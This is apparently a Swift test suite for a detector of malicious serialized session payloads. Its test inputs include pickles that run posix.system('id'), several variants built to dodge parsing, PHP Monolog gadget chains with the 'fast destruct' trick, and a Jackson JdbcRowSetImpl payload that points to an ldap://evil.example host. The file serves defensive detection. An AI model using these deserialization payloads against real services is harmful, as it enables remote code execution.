import Testing

@testable import SessionFormats

/// Loaders are less strict than decoders: bytes after a value do not stop them, and everything
/// before an error has run when they meet it. So an error also says what loading the payload would
/// do.
@Suite struct BrokenPayloadTests {
  private static let system = "cposix\nsystem\n(S'id'\ntR."

  /// The names that the error's findings have; empty if there are none.
  private func names(_ bytes: [UInt8]) -> [String] {
    let error = failure { () throws(PayloadError) in _ = try Decoded(detecting: bytes) }
    return error?.findings.map(\.name) ?? []
  }

  /// Each was loaded by CPython 3.11, and ran `id`.
  @Test(arguments: [
    // Trailing bytes, items left on the stack, a second call that fails.
    system + "x", "(I1\nI2\n" + system, "cposix\nsystem\n(S'id'\ntRR.",
    // Numbers as no pickler writes them, without and with the header of protocol 4.
    "I 5\n0" + system, "\u{80}\u{4}I 5\n0" + system, "\u{80}\u{4}I1_0\n0" + system,
    "\u{80}\u{4}I0o17\n0" + system, "\u{80}\u{4}L0x10L\n0" + system,
    "\u{80}\u{4}Np 1\n0" + system,
    // An item of a list is set.
    "\u{80}\u{4}]K\u{1}aK\u{0}K\u{5}s0" + system,
    // Deeper than a value may be.
    String(repeating: "]", count: 129) + system.dropLast() + String(repeating: "a", count: 129)
      + ".",
    // Without its end.
    "\u{80}\u{4}" + system.dropLast(),
  ])
  func aPickleThatCPythonRuns(text: String) {
    // One byte for each scalar.
    let bytes = text.unicodeScalars.map { UInt8($0.value) }
    #expect(names(bytes) == ["posix.system"])
  }

  @Test func aValueThatIsTooLargeHidesNothing() {
    let long: [UInt8] = [0x80, 0x04, 0x8B, 0x88, 0x13, 0, 0] + [UInt8](repeating: 1, count: 5000)
    #expect(names(long + Array("0\(Self.system)".utf8)) == ["posix.system"])
  }

  @Test func aComputedNameIsNamedAsSuch() {
    var bytes: [UInt8] = [0x80, 0x04] + Array("cbuiltins\nstr\n(".utf8)
    bytes += [0x8C, 5] + Array("posixtR".utf8) + [0x8C, 6] + Array("system".utf8) + [0x93]
    bytes += Array("(S'id'\ntR.".utf8)
    #expect(names(bytes) == ["a computed name"])
  }

  /// Read to the end although nothing recognises it: a memo entry far away, and a first instruction
  /// that no pickler begins with.
  @Test func aPickleOfAnyBeginningIsAPickleIfItCalls() throws {
    let bytes = Array("Nr".utf8) + [0x40, 0x4B, 0x4C, 0] + Array("0\(Self.system)".utf8)
    let decoded = try Decoded(detecting: bytes)
    #expect(decoded.reading.findings.map(\.name) == ["posix.system"])
  }

  @Test func inBase64AsWell() {
    // \x80\x04cposix\nsystem\n(S'id'\ntR.x
    #expect(
      names(Array("gARjcG9zaXgKc3lzdGVtCihTJ2lkJwp0Ui54".utf8)) == ["posix.system"])
  }

  @Test(arguments: [
    "(in the\nmiddle\nof the night, tR.", "cat\ndog\n(mouse tR", "hello world.", "I am here.",
    "(if\nthis is\nthe end tR.x", "c'est la vie\nmon ami\n(oui) tR.",
  ])
  func proseIsText(text: String) throws {
    #expect(try Decoded(detecting: Array(text.utf8)).chain == "text")
  }

  @Test(arguments: ["junk", "\u{0}", "}"])
  func phpReadsNoFurtherThanTheValue(end: String) {
    let payload = "a:1:{i:0;O:32:\"Monolog\\Handler\\SyslogUdpHandler\":0:{}}" + end
    #expect(names(Array(payload.utf8)) == ["Monolog\\Handler\\SyslogUdpHandler"])
  }

  /// "Fast destruct": the error is what makes PHP destroy the object at once.
  @Test func phpDestroysAtTheError() {
    let payload =
      "a:2:{i:0;O:32:\"Monolog\\Handler\\SyslogUdpHandler\":0:{}i:1;O:3:\"x\";}"
    #expect(names(Array(payload.utf8)) == ["Monolog\\Handler\\SyslogUdpHandler"])
  }

  @Test func jacksonReadsNoFurtherThanTheValue() {
    let payload =
      #"{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/x"}x"#
    #expect(names(Array(payload.utf8)) == ["ldap://evil.example/x"])
  }

  /// The fixtures of all producers, by their paths.
  private static let fixtures: [String] = {
    let folders = ["java", "igbinary", "php", "rails", "flask", "django", "pickle"]
    return folders.flatMap { folder in
      ((try? Fixture.names(in: folder)) ?? []).map { "\(folder)/\($0)" }
    }.filter { !$0.hasSuffix("json") }
  }()

  private static let gadgets = fixtures.filter { $0.contains("/gadget") }

  @Test(arguments: gadgets) func aGadgetIsFoundInFrontOfAnything(path: String) throws {
    let bytes = try Fixture.bytes(path)
    #expect(try !Decoded(detecting: bytes).reading.findings.isEmpty)
    for end: UInt8 in [0, UInt8(ascii: "x"), UInt8(ascii: "}")] {
      #expect(!names(bytes + [end]).isEmpty, "\(end)")
    }
  }

  /// The method that a Ruby object names and the key of a Java map are known only at their end, and
  /// MessagePack is read as such before it is PHP's.
  private static let endings = [
    "rails/gadget-method.bin", "java/gadget-urldns.bin", "igbinary/gadget.msgpack",
  ]

  @Test(arguments: gadgets.filter { !endings.contains($0) })
  func aGadgetIsFoundInWhatWasCutOff(path: String) throws {
    let bytes = try Fixture.bytes(path)
    for cut in [1, 3] { #expect(!names(bytes.dropLast(cut)).isEmpty, "\(cut)") }
  }

  @Test func theGadgetsAreThere() { #expect(Self.gadgets.count == 20) }

  /// A payload that is merely broken raises no alarm.
  @Test(arguments: fixtures.filter { !$0.contains("/gadget") })
  func aHarmlessSessionThatIsBrokenIsHarmless(path: String) throws {
    let bytes = try Fixture.bytes(path)
    guard (8...4096).contains(bytes.count), let whole = try? Decoded(detecting: bytes),
      whole.layers.isEmpty, whole.reading.findings.isEmpty
    else { return }
    for cut in [1, bytes.count / 4, bytes.count / 2] {
      #expect(names(bytes.dropLast(cut)).isEmpty, "\(cut)")
    }
    #expect(names(bytes + [0]).isEmpty)
  }
}
